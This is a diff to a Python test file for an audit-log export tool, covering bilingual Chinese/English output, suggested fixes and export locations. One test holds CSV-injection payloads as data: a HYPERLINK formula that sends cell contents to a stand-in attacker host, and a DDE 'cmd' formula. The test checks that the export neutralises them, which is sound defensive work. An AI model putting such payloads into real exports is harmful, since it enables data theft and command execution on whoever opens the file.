@@ -4,14 +4,16 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import tomllib
 from pathlib import Path
 
 import pytest
 
+from auditui.cli import run_export
 from auditui.core.auditlog import AuditLog, load_logs
-from auditui.core.export import CSV_COLUMNS, export, export_bytes, run_export
-from auditui.core.model import Finding, Report, Source
+from auditui.core.export import CSV_COLUMNS, export, export_bytes
+from auditui.core.model import CellRef, Finding, Report, Source, Suggestion
 
 COMMENT = '逗号,引号"单引号\'\n第二行 | 竖线 😀'
 
@@ -136,7 +138,7 @@ def test_markdown_escapes_what_would_break_it(tmp_path):
 
 def test_empty_export():
     assert tomllib.loads(export([], "toml"))["counts"]["open"] == 0
-    assert export([], "csv").splitlines() == [",".join(CSV_COLUMNS)]
+    assert export([], "csv").splitlines() == [",".join(f'"{c}"' for c in CSV_COLUMNS)]
     assert "No audit logs." in export([], "md")
     with pytest.raises(ValueError):
         export([], "xlsx")
@@ -157,7 +159,7 @@ def test_run_export_to_file(log_dir, tmp_path, fmt, capsys):
 def test_run_export_infers_format_and_writes_stdout(log_dir, tmp_path, capsysbinary):
     out = tmp_path / "summary.csv"
     assert run_export(str(log_dir), None, str(out)) == 0
-    assert out.read_bytes().startswith(b"\xef\xbb\xbfreport_path,")
+    assert out.read_bytes().startswith(b'\xef\xbb\xbf"report_path",')
     capsysbinary.readouterr()
     assert run_export(str(log_dir), "toml", None) == 0
     assert tomllib.loads(capsysbinary.readouterr().out.decode("utf-8"))["counts"]["confirmed"] == 1
@@ -229,3 +231,103 @@ def test_cli_check_counts_only_undismissed_errors(tmp_path):
     assert cli.main(args) == 1
     log.set_status(errors[-1].key, "dismissed", "也不是")
     assert cli.main(args) == 0
+
+
+# ------------------------------------------------------------------------------------------------ language, fixes
+
+
+def _fixed_finding() -> Finding:
+    cell = CellRef("三", "三.一", "自然人")
+    also = Suggestion(CellRef("三", "三.一", "总计"), 12, 11, 1)
+    return Finding(rule="row-total", severity="error", table="三", row="三.一", column="总计", expected=11,
+                   actual=12, message="第三部分「三.一」行：总计 12 ≠ 11", message_en="part 三 row 三.一: 总计 12 ≠ 11",
+                   suggestions=(Suggestion(cell, 3, 2, 1, (also,)), Suggestion(CellRef("三", "三.一", "商业企业"),
+                                                                              None, 1, 1)))
+
+
+def test_exports_follow_the_language_and_carry_the_suggested_fixes(tmp_path):
+    f = _fixed_finding()
+    log = AuditLog.open(make_report("报告", "r/报告.txt", "某局", 2022), [f], tmp_path, "李")
+    log.set_status(f.key, "confirmed", "确有错误")
+    logs, _ = load_logs(tmp_path)
+    assert logs[0].entries[0].fixes == ["三.一/自然人 3 → 2, 总计 12 → 11", "三.一/商业企业 ∅ → 1"]
+    en, zh = export(logs, "md", lang="en"), export(logs, "md", lang="zh")
+    assert "part 三 row 三.一: 总计 12 ≠ 11" in en and "第三部分" not in en
+    assert "possible fix: 三.一/自然人 3 → 2, 总计 12 → 11; or 三.一/商业企业 ∅ → 1" in en
+    assert "可能的修正：三.一/自然人 3 → 2, 总计 12 → 11；或 三.一/商业企业 ∅ → 1" in zh and "第三部分" in zh
+    # apart from the report's own words (body, path, the auditor's reason) and ids, English is English
+    cjk = re.compile(r"[\u3400-\u9fff]+")
+    leftovers = set(cjk.findall(en)) - {"某局", "报告", "李", "确有错误", "三", "一", "自然人", "总计", "商业企业"}
+    assert leftovers == set(), leftovers
+    rows = list(csv.DictReader(io.StringIO(export(logs, "csv", lang="en"), newline="")))
+    assert rows[0]["message"] == f.message_en and rows[0]["fixes"].startswith("possible fix: 三.一/自然人 3 → 2")
+    rows = list(csv.DictReader(io.StringIO(export(logs, "csv", lang="zh"), newline="")))
+    assert rows[0]["message"] == f.message and rows[0]["fixes"].startswith("可能的修正：")
+    doc = tomllib.loads(export(logs, "toml", lang="en"))
+    assert doc["lang"] == "en" and doc["report"][0]["finding"][0]["fixes"] == logs[0].entries[0].fixes
+    assert doc["report"][0]["finding"][0]["message"] == f.message_en
+    assert doc["report"][0]["finding"][0]["rule"] == "row-total" and doc["report"][0]["finding"][0]["status"] == "confirmed"
+
+
+def test_cli_export_language_from_the_option_or_the_config(tmp_path, monkeypatch, capsysbinary):
+    f = _fixed_finding()
+    AuditLog.open(make_report("报告", "r/报告.txt", "某局", 2022), [f], tmp_path / "logs", "李").set_comment(f.key, "x")
+    cli = pytest.importorskip("auditui.cli")
+    assert cli.main(["export", "--log-dir", str(tmp_path / "logs"), "--lang", "en"]) == 0
+    assert "possible fix" in capsysbinary.readouterr().out.decode("utf-8")
+    assert cli.main(["export", "--log-dir", str(tmp_path / "logs")]) == 0  # no config: zh, as the TUI
+    assert "可能的修正" in capsysbinary.readouterr().out.decode("utf-8")
+    conf = tmp_path / "config.toml"
+    conf.write_text('lang = "en"\n', "utf-8")
+    monkeypatch.setenv("AUDITUI_CONFIG", str(conf))
+    assert cli.main(["export", "--log-dir", str(tmp_path / "logs"), "--format", "csv"]) == 0
+    assert "possible fix" in capsysbinary.readouterr().out.decode("utf-8-sig")
+    assert cli.main(["export", "--log-dir", str(tmp_path / "logs"), "--lang", "fr"]) == 2
+    assert b"unknown language 'fr'" in capsysbinary.readouterr().err
+
+
+# ------------------------------------------------------------------------------------------------ CSV injection
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path):
+    title = '=HYPERLINK("http://evil.example/"&B2,"点击查看")'
+    r = make_report("报告", "r/x.txt", title, 2022)
+    log = AuditLog.open(r, [A1, A2], tmp_path, "@auditor")
+    log.set_status(A1.key, "dismissed", "+1 是上年结转")
+    log.set_comment(A1.key, "-2 见附件")
+    log.set_comment(A2.key, "\t=1+1")
+    log.add_note("三/一/总计", "\r=cmd|' /C calc'!A0")
+    log.set_status(A2.key, "confirmed", "正常的理由 = 不是公式")
+    data = export_bytes(load_logs(tmp_path)[0], "csv")
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    a1 = next(r for r in rows if r["key"] == A1.key)
+    a2 = next(r for r in rows if r["key"] == A2.key)
+    note = next(r for r in rows if r["kind"] == "note")
+    assert a1["body"] == "'" + title and a1["reason"] == "'+1 是上年结转" and a1["comment"] == "'-2 见附件"
+    assert a1["auditor"] == "'@auditor" and a2["comment"] == "'\t=1+1" and note["comment"] == "'\r=cmd|' /C calc'!A0"
+    assert a2["reason"] == "正常的理由 = 不是公式"  # only a formula's first character matters
+    # every field is quoted; no field starts with a formula character
+    for line in data.decode("utf-8-sig").split("\r\n")[1:-1]:
+        assert line.startswith('"')
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+
+
+# ------------------------------------------------------------------------------------------------ log folder
+
+
+def test_an_export_saved_among_the_logs_is_passed_over_quietly(log_dir, tmp_path, capsys):
+    inside = log_dir / "audit.toml"
+    assert run_export(str(log_dir), None, str(inside)) == 0
+    (log_dir / "README.md").write_text("团队的审计日志", "utf-8")
+    capsys.readouterr()
+    out = tmp_path / "again.md"
+    assert run_export(str(log_dir), None, str(out)) == 0
+    assert "skipped" not in capsys.readouterr().err
+    logs, errors = load_logs(log_dir)
+    assert errors == [] and len(logs) == 2
+
+
+def test_the_default_output_of_export_is_the_current_folder(log_dir, tmp_path, monkeypatch, capsys):
+    monkeypatch.chdir(tmp_path)
+    assert run_export(str(log_dir), "md", "summary.md") == 0
+    assert (tmp_path / "summary.md").exists() and not (log_dir / "summary.md").exists()
